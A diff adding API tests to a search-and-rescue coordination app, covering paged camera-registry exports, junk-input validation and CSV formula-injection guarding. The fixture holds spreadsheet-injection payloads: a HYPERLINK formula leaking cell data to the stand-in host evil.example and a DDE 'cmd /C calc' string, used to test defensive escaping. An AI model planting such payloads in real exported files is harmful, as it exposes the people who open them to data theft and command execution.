@@ -1,10 +1,18 @@
 """Review fixes through the API: multi-picture JPEGs, metadata kinds, the whole registry exported and guarded
 against spreadsheet formulas, owner contacts kept from officers, the registry an officer may read, junk input."""
+import csv
 import io
+import json
 
+import pytest
 from PIL import Image
 
-from search_coord.adapters.models import Photo
+from search_coord.adapters.models import Camera, Photo
+from search_coord.core import camera_table
+from search_coord.services import camera_files
+from search_coord.services.context import Actor
+from search_coord.services.video import cameras as video_cameras
+from support import LKP
 
 
 def encode(img, fmt, **kw) -> bytes:
@@ -46,3 +54,115 @@ def test_a_jpeg_comment_is_not_served_to_other_members(opened, login):
     assert r.status_code == 201, r.get_json()
     got = disp.get(f"/api/v1/photos/{r.get_json()['id']}")
     assert got.status_code == 200 and b"secret" not in got.data
+
+
+def import_file(c, raw: bytes, fmt: str):
+    return c.client.post(f"/api/v1/cameras/import?format={fmt}", data=raw,
+                         headers={"X-CSRF-Token": c.token, "Content-Type": "text/csv" if fmt == "csv"
+                                  else "application/geo+json"})
+
+
+def camera_count(app) -> int:
+    with app.extensions["search_coord"].reading() as s:
+        return s.query(Camera).count()
+
+
+def test_the_export_holds_every_camera_read_a_page_at_a_time(app, login, monkeypatch):
+    monkeypatch.setattr(camera_files, "EXPORT_PAGE", 3, raising=False)
+    monkeypatch.setattr(video_cameras, "DISPATCHER_PAGE_MAX", 4)   # what the export stopped at before
+    disp = login("disp")
+    rows = [f"E{i:02d},Gate {i},116.{3000 + i},39.9,shop" for i in range(10)]
+    assert import_file(disp, "\n".join(["code,name,lon,lat,kind"] + rows).encode(), "csv").status_code == 200
+    disp.patch(f"/api/v1/cameras/{disp.get('/api/v1/cameras?active=all').get_json()[0]['id']}", {"active": False})
+    r = disp.get("/api/v1/cameras/export?format=csv")
+    assert r.status_code == 200 and r.is_streamed
+    got = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
+    assert [row[0] for row in got[1:]] == [f"E{i:02d}" for i in range(10)]   # inactive too, in code order
+    geo = disp.get("/api/v1/cameras/export?format=geojson")
+    assert geo.status_code == 200 and geo.is_streamed
+    feats = json.loads(geo.data)["features"]
+    assert [f["properties"]["code"] for f in feats] == [f"E{i:02d}" for i in range(10)]
+    assert feats[0]["properties"]["active"] is False and feats[1]["geometry"]["coordinates"] == [116.3001, 39.9]
+    assert set(feats[1]["properties"]) == {"code", "name", "kind", "owner", "contact", "direction_deg", "fov_deg",
+                                           "range_m", "retention_days", "clock_offset_s", "offset_measured_at",
+                                           "covers_exit", "notes", "active"}
+    svc = app.extensions["search_coord"]
+    for n in (9, 10, 11):   # a last page short, full, or empty
+        monkeypatch.setattr(camera_files, "EXPORT_PAGE", n)
+        chunks, _ = camera_files.export_cameras(svc, _actor(app, disp), "csv")
+        assert not isinstance(chunks, str)
+        assert len(list(csv.reader(io.StringIO("".join(chunks).lstrip("\ufeff"))))) == 11
+    assert disp.get("/api/v1/cameras/export?format=xls").status_code == 400
+    assert login("off1").get("/api/v1/cameras/export?format=csv").status_code == 403
+
+
+def _actor(app, client):
+    return Actor(user_id=client.user["id"], role=client.user["role"])
+
+
+FORMULAS = {"name": '=HYPERLINK("http://evil.example/?"&B3,"Open map")', "owner": "+cmd|' /C calc'!A0",
+            "contact": "@SUM(1+1)", "notes": "-2+3"}
+
+
+def test_the_csv_export_guards_formulas_and_reads_back_the_same_text(login):
+    disp = login("disp")
+    made = [{"code": "=F1", "location": [-0.1, -51.5], "kind": "shop", "clock_offset_s": -35, **FORMULAS},
+            {"code": "F2", "name": "'=already quoted", "location": [116.3, 39.9], "kind": "shop",
+             "owner": "'plain quote", "contact": "\u5317\u95e8 -1", "notes": "ok"}]
+    for cam in made:
+        assert disp.post("/api/v1/cameras", cam).status_code == 201
+    r = disp.get("/api/v1/cameras/export?format=csv")
+    rows = {row[0]: dict(zip(camera_table.COLUMNS, row))
+            for row in list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))[1:]}
+    f1 = rows["'=F1"]
+    assert (f1["name"], f1["owner"], f1["contact"], f1["notes"]) == tuple("'" + FORMULAS[k] for k in
+                                                                          ("name", "owner", "contact", "notes"))
+    assert (f1["lon"], f1["lat"], f1["clock_offset_s"]) == ("-0.1", "-51.5", "-35.0")   # numbers as they are
+    assert rows["F2"]["name"] == "''=already quoted" and rows["F2"]["owner"] == "''plain quote"
+    assert rows["F2"]["contact"] == "\u5317\u95e8 -1"
+    before = {c["code"]: c for c in disp.get("/api/v1/cameras?active=all").get_json()}
+    again = import_file(disp, r.data, "csv")
+    assert again.status_code == 200 and again.get_json()["updated"] == 2, again.get_json()
+    after = {c["code"]: c for c in disp.get("/api/v1/cameras?active=all").get_json()}
+    for code in before:
+        for key in ("name", "owner", "contact", "notes", "location", "clock_offset_s"):
+            assert after[code][key] == before[code][key], (code, key)
+
+
+@pytest.mark.parametrize("raw, where", [
+    (b"[" * 50000, "_body"),
+    (('{"type": "FeatureCollection", "features": [' + "[" * 50000 + "]" * 50000 + "]}").encode(),
+     "_body"),
+    (json.dumps({"type": "FeatureCollection", "features": [
+        {"type": "Feature", "geometry": {"type": "Point", "coordinates": LKP},
+         "properties": {"code": "S1", "name": "x\ud800", "kind": "shop"}}]}).encode(), "row 1.properties.name"),
+    (json.dumps({"type": "FeatureCollection", "features": [
+        {"type": "Feature", "geometry": {"type": "Point", "coordinates": LKP},
+         "properties": {"code": "S1", "name": "x", "kind": ["shop"], "owner": {"a": 1}}}]}).encode(), "row 1.kind"),
+], ids=["deep", "deep-feature", "lone-surrogate", "kind-list"])
+def test_junk_geojson_is_a_400_and_stores_nothing(app, login, raw, where):
+    disp = login("disp")
+    r = import_file(disp, raw, "geojson")
+    assert r.status_code == 400, r.data[:300]
+    assert where in r.get_json()["errors"], r.get_json()
+    assert camera_count(app) == 0
+
+
+@pytest.mark.parametrize("junk", [[], {}, ["area"], {"area": 1}, 3, True], ids=repr)
+def test_a_list_or_object_where_a_choice_is_expected_is_a_400(opened, login, junk):
+    sid, disp = opened
+    geometry = {"type": "Polygon", "coordinates": [[[LKP[0], LKP[1]], [LKP[0] + 0.001, LKP[1]],
+                                                    [LKP[0] + 0.001, LKP[1] + 0.001], [LKP[0], LKP[1]]]]}
+    before = disp.get(f"/api/v1/searches/{sid}/events?after=0").get_json()["events"]
+    for url, body, field in (
+            (f"/api/v1/searches/{sid}/assignments", {"title": "A", "kind": junk, "geometry": geometry}, "kind"),
+            (f"/api/v1/searches/{sid}/teams", {"name": "T", "kind": junk}, "kind"),
+            (f"/api/v1/searches/{sid}/clues", {"kind": junk, "text": "x", "location": LKP}, "kind"),
+            (f"/api/v1/searches/{sid}/broadcasts", {"kind": junk, "text": "x"}, "kind"),
+            ("/api/v1/searches", {"subject": {"name": "A", "category": "dementia"}, "lkp": LKP,
+                                  "lkp_time": "2026-11-28T17:30:00+08:00", "risk": "high",
+                                  "risk_reasons": [junk]}, "risk_reasons")):
+        r = disp.post(url, body)
+        assert r.status_code == 400, (url, r.data[:300])
+        assert field in r.get_json()["errors"], (url, r.get_json())
+    assert disp.get(f"/api/v1/searches/{sid}/events?after=0").get_json()["events"] == before
